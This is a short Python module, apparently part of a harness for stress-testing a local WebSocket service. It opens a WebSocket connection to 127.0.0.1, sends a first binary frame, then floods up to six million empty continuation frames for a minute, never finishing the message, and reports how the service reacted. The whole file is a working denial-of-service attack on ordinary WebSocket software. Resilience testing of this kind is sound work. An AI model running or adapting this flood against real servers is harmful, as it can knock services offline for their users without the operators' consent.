"""One WebSocket message of empty continuation frames without end, as fast as they are taken."""

import socket
import time

from scripts.attacks.stage import Attack, Stage
from scripts.attacks.stage.crowd import UPGRADE

__all__ = ["ATTACK"]

_FIRST = b"\x02\x80\x00\x00\x00\x00"
_EMPTY = b"\x00\x80\x00\x00\x00\x00"
_AT_ONCE = 5000  # frames


def _strike(stage: Stage) -> None:
    sent, until = 0, time.monotonic() + stage.sizes.seconds
    with socket.create_connection(("127.0.0.1", stage.service.port), 10) as sock:
        sock.sendall(UPGRADE)
        sock.recv(1 << 16)
        sock.sendall(_FIRST)
        try:
            while sent < stage.sizes.count and time.monotonic() < until:
                sock.sendall(_EMPTY * _AT_ONCE)
                sent += _AT_ONCE
            stage.say(f"the end of what the service said: {sock.recv(1 << 16)[-60:]!r}")
        except OSError as e:
            stage.say(f"the service ended the connection: {e}")
    stage.say(f"{sent} frames were sent")


ATTACK = Attack(strike=_strike, count=6_000_000, counts="Frames.", seconds=60)
